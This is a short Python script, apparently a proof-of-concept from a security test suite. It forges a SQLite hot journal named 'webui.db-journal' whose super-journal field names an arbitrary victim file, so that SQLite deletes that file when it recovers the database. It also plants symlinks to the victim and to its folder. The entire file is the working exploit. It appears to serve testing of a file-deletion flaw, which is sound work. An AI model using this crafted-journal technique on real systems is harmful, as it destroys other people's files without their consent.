"""Leave in the folder of the stopped page what a page that was taken over could: see verify.yml."""

from __future__ import annotations

import struct
import sys
from pathlib import Path

MAGIC = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
PAGE = 4096


def journal(database: bytes, names: bytes) -> bytes:
    """A journal of a transaction of several databases: SQLite removes the file that it names."""
    first = database[:PAGE]
    header = MAGIC + struct.pack(">5I", 1, 7, len(database) // PAGE, 512, PAGE)
    record = struct.pack(">I", 1) + first + struct.pack(">I", 7 + sum(first[3896:0:-200]))
    end = (
        struct.pack(">I", (1 << 30) // PAGE + 1) + names + struct.pack(">II", len(names), sum(names)) + MAGIC
    )
    return header.ljust(512, b"\0") + record + end


folder, victim = Path(sys.argv[1]), Path(sys.argv[2])
victim.write_text("precious\n")
(folder / "webui.db-journal").write_bytes(journal((folder / "webui.db").read_bytes(), str(victim).encode()))
(folder / "link").symlink_to(victim)
(folder / "folder").symlink_to(victim.parent)
